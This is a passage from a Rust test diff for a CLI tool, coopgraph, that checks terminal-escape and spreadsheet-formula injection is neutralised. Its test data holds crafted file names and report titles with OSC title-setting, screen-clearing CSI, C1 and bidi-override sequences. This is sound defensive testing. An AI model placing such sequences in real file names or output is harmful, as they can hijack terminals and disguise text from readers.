+        for (_, name) in NAMES {
+            let shown = if name.starts_with(FORMULA_START) {
+                format!("'{name}")
+            } else {
+                name.to_string()
+            };
+            assert!(names.contains(&shown), "{shown:?} not in {names:?}");
+        }
+    }
+
+    #[test]
+    fn wrote_lines_escape_the_path() {
+        let dir = tempfile::tempdir().unwrap();
+        let out = dir.path().join("x\u{1b}]0;owned\u{7}\u{9b}2J.json");
+        let run = coopgraph()
+            .args(["generate", "--orgs", "5", "--projects", "3", "-o"])
+            .arg(&out)
+            .assert()
+            .success();
+        let err = String::from_utf8(run.get_output().stderr.clone()).unwrap();
+        assert!(err.contains("wrote "), "{err}");
+        assert_nothing_raw(&err, "the wrote line");
+        assert!(
+            err.contains("x\\u{1b}]0;owned\\u{7}\\u{9b}2J.json"),
+            "{err}"
+        );
+    }
+
+    #[test]
+    fn report_md_escapes_control_characters_and_keeps_printable_text() {
+        let dir = tempfile::tempdir().unwrap();
+        let data = dataset(dir.path());
+        let spec = crate::support::write(
+            dir.path(),
+            "spec.toml",
+            "title = \"Title \\u001b[2J clear\"\n[[table]]\nid = \"metrics\"\nmetrics = [\"degree\"]\n",
+        );
+        let out = dir.path().join("report");
+        coopgraph()
+            .arg("--quiet")
+            .arg("--data")
+            .arg(&data)
+            .arg("report")
+            .arg("--spec")
+            .arg(&spec)
+            .arg("-o")
+            .arg(&out)
+            .assert()
+            .success();
+        let md = std::fs::read_to_string(out.join("report.md")).unwrap();
+        assert_nothing_raw(&md, "report.md");
+        assert!(md.starts_with("# Title \\u{1b}\\[2J clear\n"), "{md}");
+        assert!(
+            md.contains("| Esc \\u{1b}\\]0;owned\\u{7} \\u{1b}\\[2J bell |"),
+            "{md}"
+        );
+        assert!(md.contains("| C1 \\u{9b}2J csi \\u{85}nel |"), "{md}");
+        assert!(
+            md.contains("| Bidi \\u{202e}evil \\u{2066}isolate |"),
+            "{md}"
+        );
+    }
 }
